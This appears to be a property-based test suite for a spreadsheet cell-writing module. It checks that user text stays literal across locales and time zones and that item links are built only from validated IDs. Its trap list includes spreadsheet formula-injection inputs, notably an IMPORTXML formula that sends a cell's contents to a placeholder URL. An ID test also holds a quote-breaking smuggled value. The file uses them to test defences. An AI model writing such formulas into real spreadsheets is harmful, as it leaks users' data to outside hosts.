// Whatever is written is read back as it was, and no text becomes a formula, a number or a date.

import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { addDays, dayFromIso } from '../../src/plan/day';
import { type CellInput, holds, type ItemLink, valueToWrite } from '../../src/sheets/cell-input';
import { Book, TODAY } from './book';

const LOCALES = ['en_US', 'en_GB', 'de_DE', 'fr_FR', 'pt_BR', 'pl_PL', 'ja_JP'];
const TRAPS = [
  '=1+1',
  '=IMPORTXML("http://x"&A1)',
  '+1',
  '-1',
  '+A1',
  '@A1',
  '3/4',
  '3.4',
  '1,5',
  '1.5',
  '12:30',
  '1e3',
  '50%',
  '€5',
  '2026-11-23',
  '23.11.2026',
  '23 nov 2026',
  'Nov 23',
  '1 März',
  '3月4日',
  'TRUE',
  'wahr',
  'Vrai',
  'FAŁSZ',
  'true ',
  "'",
  "''",
  "'=1",
  "'quoted'",
  ' ',
  '  x  ',
  '\n',
  'a\nb',
  '\t=1',
  ' =1',
  '',
  '#REF!',
  '#N/A',
  '{1,2}',
  '0012',
  'M7',
  'M7 · Hire 3 people',
  'M7 · =1+1',
  'M7 2026',
  'May',
  'Mai 5',
  '(5)',
  '5-6',
  '4–5',
  '≥ 99.9',
  '1 000',
  '1’000',
  '０１',
];
const anyText = fc.oneof(
  fc.constantFrom(...TRAPS),
  fc.string({ unit: 'grapheme', maxLength: 30 }),
  fc.string({ unit: fc.constantFrom(...'0123456789.,/-+:=%€$\'" eEMT()年月日janmar'), maxLength: 12 }),
);

function written(book: Book, inputs: readonly CellInput[]): { cells: unknown[]; formulas: string[] } {
  const range = book.sheet('Sheet1').getRange(1, 1, inputs.length, 1);
  range.setValues(inputs.map(input => [valueToWrite(input)]));
  return { cells: range.getValues().map(([cell]) => cell), formulas: range.getFormulas().flat() };
}

describe.each(LOCALES)('in %s', locale => {
  it('text that is written is read back as it was, and never as a formula', () => {
    const book = Book.of({ Sheet1: [] }, { locale });
    fc.assert(
      fc.property(fc.array(anyText, { minLength: 1, maxLength: 60 }), texts => {
        const { cells, formulas } = written(book, texts);
        expect(cells).toEqual(texts);
        expect(formulas.join('')).toBe('');
      }),
      { numRuns: 60, examples: [[TRAPS]] },
    );
  });

  it('text that is appended as a row is read back as it was', () => {
    const book = Book.of({ Sheet1: [] }, { locale });
    const sheet = book.sheet('Sheet1');
    for (const text of TRAPS.filter(trap => trap.trim() !== '')) {
      sheet.appendRow([valueToWrite(text)]);
      const last = sheet.getRange(sheet.getLastRow(), 1, 1, 1);
      expect(last.getValues()).toEqual([[text]]);
      expect(last.getFormulas()).toEqual([['']]);
    }
  });

  it('numbers and truth values stay what they are', () => {
    const values = [0, -1, 1.5, 1e-9, 123456789.125, true, false];
    expect(written(Book.of({ Sheet1: [] }, { locale }), values).cells).toEqual(values);
  });

  it('an item link shows its text and leads to a row that is looked for, whatever the text says', () => {
    const book = Book.of({ Sheet1: [] }, { locale });
    fc.assert(
      fc.property(anyText, text => {
        const { cells, formulas } = written(book, [{ ...LINK, text }]);
        expect(cells).toEqual([text.replace(/\s+/g, ' ')]);
        expect(formulas[0]).toMatch(
          /^=HYPERLINK\("#gid=7&range=A"&IFERROR\(MATCH\("M7"[;,].*!A:A[;,]0\)[;,]1\)[;,]".*"\)$/s,
        );
        expect(formulas[0]!.replace(/"(?:[^"]|"")*"/g, '').match(/[A-Z]{3,}/g)).toEqual([
          'HYPERLINK',
          'IFERROR',
          'MATCH',
        ]);
      }),
      { numRuns: 60, examples: TRAPS.map(text => [text]) },
    );
  });
});

const LINK: ItemLink = { id: 'M7', text: 'M7 · Hire', sheetId: 7, sheetName: 'Plan', idColumn: 0 };
const formulaOf = (link: Partial<ItemLink>) => String(valueToWrite({ ...LINK, ...link }));

describe('an item link', () => {
  it('is made from a checked ID only', () => {
    for (const id of ['', 'M0', 'm7', 'M7"', 'M7";A1', 'X1', 'M7 '])
      expect(() => formulaOf({ id })).toThrow(RangeError);
    expect(() => formulaOf({ id: 'T42' })).not.toThrow();
  });

  it('quotes the name of a sheet that could be taken for something else', () => {
    expect(formulaOf({ sheetName: 'Plan' })).toContain(';Plan!A:A;');
    expect(formulaOf({ sheetName: 'My plan' })).toContain(";'My plan'!A:A;");
    expect(formulaOf({ sheetName: "Ann's" })).toContain(";'Ann''s'!A:A;");
    for (const sheetName of ['Q1', 'FY27', 'R1C1', 'TRUE', '2026'])
      expect(formulaOf({ sheetName })).toContain(`;'${sheetName}'!A:A;`);
  });
});

describe('a cell', () => {
  it('holds what was written into it, so that nothing is written twice', () => {
    const inputs: CellInput[] = ['', 'Green', '3/4', 0, 1.5, true, { day: TODAY }];
    const book = Book.of({ Sheet1: [[], [], [], [], [], [], [{ day: TODAY }]] });
    written(book, inputs);
    const cells = [...book.cells('Sheet1').map(([cell]) => cell!)];
    inputs.forEach((input, at) => {
      inputs.forEach((other, otherAt) => {
        expect(holds(cells[at]!, other), `${JSON.stringify(input)} / ${JSON.stringify(other)}`).toBe(
          at === otherAt,
        );
      });
    });
  });
});

/** The last two have days that begin at one o'clock; the spreadsheet's zone is never the script's. */
const ZONES = [
  'Etc/UTC',
  'America/Los_Angeles',
  'Asia/Tokyo',
  'Pacific/Kiritimati',
  'America/St_Johns',
  'Asia/Beirut',
  'Africa/Cairo',
  'America/Sao_Paulo',
];

describe.each(ZONES)('in the time zone %s', timeZone => {
  const CHANGES = [
    '2018-11-04',
    '2017-10-15',
    '2026-03-29',
    '2026-04-24',
    '2026-10-30',
    '2026-10-25',
    '2026-11-01',
    '2026-03-08',
  ];

  it('a day is read back as the same day, also where clocks change at midnight', () => {
    const book = Book.of({ Sheet1: [] }, { timeZone });
    const change = fc.constantFrom(...CHANGES).map(iso => dayFromIso(iso)!);
    fc.assert(
      fc.property(
        fc.array(
          fc
            .tuple(fc.oneof(change, fc.constant(TODAY)), fc.integer({ min: -400, max: 400 }))
            .map(([from, days]) => addDays(from, Math.abs(days) > 200 ? 0 : days)),
          { minLength: 1, maxLength: 40 },
        ),
        days => {
          const range = book.sheet('Sheet1').getRange(1, 1, days.length, 1);
          range.setNumberFormat('yyyy-mm-dd');
          range.setValues(days.map(day => [valueToWrite({ day })]));
          expect(book.cells('Sheet1').slice(0, days.length)).toEqual(days.map(day => [{ day }]));
        },
      ),
      { numRuns: 40 },
    );
  });
});
